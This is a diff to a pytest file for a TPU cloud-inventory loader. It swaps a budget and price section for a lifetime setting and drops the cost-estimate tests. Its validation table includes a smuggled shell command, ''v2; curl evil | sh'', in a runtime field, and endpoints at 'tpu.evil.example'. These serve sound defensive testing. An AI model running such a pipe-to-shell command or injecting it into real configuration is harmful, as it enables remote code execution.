@@ -1,4 +1,4 @@
-"""The cloud part of an inventory: what may be written, and what a slice consists of and costs."""
+"""The cloud part of an inventory: what may be written, and what a slice consists of."""
 
 from collections.abc import Mapping
 from pathlib import Path
@@ -10,9 +10,7 @@ from chaoslab.fleet.remote.inventory import load
 from chaoslab.fleet.remote.settings import Ssh
 from chaoslab.fleet.settings import FleetRequest
 from chaoslab.fleet.tpu.accelerators import accelerator
-from chaoslab.fleet.tpu.inventory import Budget, Cloud, TpuEntry
-from chaoslab.fleet.tpu.lifecycle import estimate
-from chaoslab.fleet.tpu.prices import READ_ON, SOURCE, price
+from chaoslab.fleet.tpu.inventory import Cloud, TpuEntry
 from tests import hostile
 
 ENTRY: Mapping[str, str] = {
@@ -26,9 +24,9 @@ syncer: {host: 10.0.0.2}
 learners:
   learner-0: {tpu: {type: v5litepod-16, runtime: v2-alpha-tpuv5-lite, zone: us-east5-b}}
   learner-1: {hosts: [10.0.0.3], region: us}
-budget: {usd: 100, time: 4h}
+lifetime: 4h
 repair: {preemptions: 5, wait: 10m}
-prices: {v4: 3.22}
+python: python3
 """
 
 
@@ -46,7 +44,7 @@ def test_slices_are_read_and_hosts_by_address_are_left_to_others(tmp_path: Path)
     cloud = read_cloud(written(tmp_path))
     assert [*cloud.slices] == ["learner-0"]
     assert cloud.slices["learner-0"] == TpuEntry(**ENTRY)
-    assert cloud.budget == Budget(usd=100.0, time_s=4 * 3600.0)
+    assert cloud.lifetime_s == 4 * 3600.0
     assert (cloud.repair.preemptions, cloud.repair.failures, cloud.repair.wait_s) == (5, 3, 600.0)
 
 
@@ -54,17 +52,17 @@ def test_slices_are_read_and_hosts_by_address_are_left_to_others(tmp_path: Path)
     ("old", "new", "says"),
     [
         ("runtime:", "runtimes:", "6:41: .*`runtimes`.*`runtime`"),
-        ("time: 4h", "time: 4", "8:26: .*4s"),
-        ("usd: 100, ", "", "usd"),
+        ("lifetime: 4h", "lifetime: 4", "8:11: .*4s"),
+        ("lifetime: 4h\n", "", "lifetime"),
+        ("lifetime: 4h", "lifetime: 0s", "lifetime"),
         ("v5litepod-16", "v5litepod", "yaml:6:.*learner-0.tpu.type"),
         ("v5litepod-16", "v5litepod-5", "yaml:6:.*learner-0.tpu.type"),
         ("us-east5-b", "us-east5", "yaml:6:.*zone"),
         ("my-project", "My Project", "yaml:2:.*project"),
         ("name: vines", "name: Vines", "yaml:1:.*name"),
         ("v2-alpha-tpuv5-lite", "'v2; curl evil | sh'", "yaml:6:.*runtime"),
-        ("prices: {v4: 3.22}", "endpoint: 10.0.0.9:80", "yaml:10:.*endpoint"),
-        ("prices: {v4: 3.22}", "prices: {v5litepod: 1.2}", "yaml:10:.*prices"),
-        ("prices: {v4: 3.22}", "endpoint: tpu.evil.example:443", "yaml:10:.*endpoint"),
+        ("python: python3", "endpoint: 10.0.0.9:80", "yaml:10:.*endpoint"),
+        ("python: python3", "endpoint: tpu.evil.example:443", "yaml:10:.*endpoint"),
     ],
 )
 def test_a_mistake_is_named_with_its_place(tmp_path: Path, old: str, new: str, says: str) -> None:
@@ -111,8 +109,7 @@ def made_with(key: str, word: str) -> Cloud:
     is_of_cloud = key in ("name", "project", "endpoint", "public_key")
     entry = TpuEntry(**ENTRY if is_of_cloud else {**ENTRY, key: word})
     usual = {"name": "vines", "project": "my-project", **({key: word} if is_of_cloud else {})}
-    budget = Budget(usd=1.0, time_s=1.0)
-    return Cloud(**usual, slices={"learner-0": entry}, budget=budget)  # type: ignore[arg-type]
+    return Cloud(**usual, slices={"learner-0": entry}, lifetime_s=1.0)  # type: ignore[arg-type]
 
 
 def test_an_inventory_without_a_slice_is_none_of_the_cloud(tmp_path: Path) -> None:
@@ -169,50 +166,3 @@ def test_chips_and_hosts_of_a_type(type_: str, generation: str, chips: int, host
 def test_what_is_no_type(type_: str) -> None:
     with pytest.raises(PlanError):
         accelerator(type_)
-
-
-# ---------------------------------------------------------------- cost
-
-
-def cloud(*, usd: float = 1000.0, type_: str = "v5litepod-16", **prices: float) -> Cloud:
-    entry = TpuEntry(**{**ENTRY, "type": type_})
-    return Cloud(
-        name="vines",
-        project="my-project",
-        slices={"learner-0": entry, "learner-1": entry},
-        budget=Budget(usd=usd, time_s=7200.0),
-        prices=prices,
-    )
-
-
-def test_an_estimate_has_its_source_and_date() -> None:
-    found = estimate(cloud())
-    assert found.usd_per_hour == pytest.approx(2 * 16 * 1.2)
-    assert found.usd == pytest.approx(2 * found.usd_per_hour)
-    assert found.sources == (f"{SOURCE}, read on {READ_ON}",)
-
-
-def test_a_price_of_the_inventory_goes_before_the_listed_one() -> None:
-    found = estimate(cloud(v5e=0.5))
-    assert found.usd_per_hour == pytest.approx(16.0)
-    assert found.sources == ("prices of the inventory",)
-
-
-def test_spot_is_cheaper_and_depends_on_the_region() -> None:
-    there = price("v6e", "us-east5-b", is_spot=True, own={})
-    elsewhere = price("v6e", "us-east1-d", is_spot=True, own={})
-    on_demand = price("v6e", "us-east5-b", is_spot=False, own={})
-    assert there is not None
-    assert elsewhere is not None
-    assert on_demand is not None
-    assert elsewhere.usd_per_chip_hour < there.usd_per_chip_hour < on_demand.usd_per_chip_hour
-
-
-def test_more_than_the_budget_is_refused_with_the_time_that_it_allows() -> None:
-    with pytest.raises(PlanError, match=r"76\.80 USD.*38\.4 USD.*`time: 1h`"):
-        estimate(cloud(usd=38.4))
-
-
-def test_an_unknown_price_is_refused_with_what_to_write() -> None:
-    with pytest.raises(PlanError, match=r"prices: \{v4"):
-        estimate(cloud(type_="v4-8"))
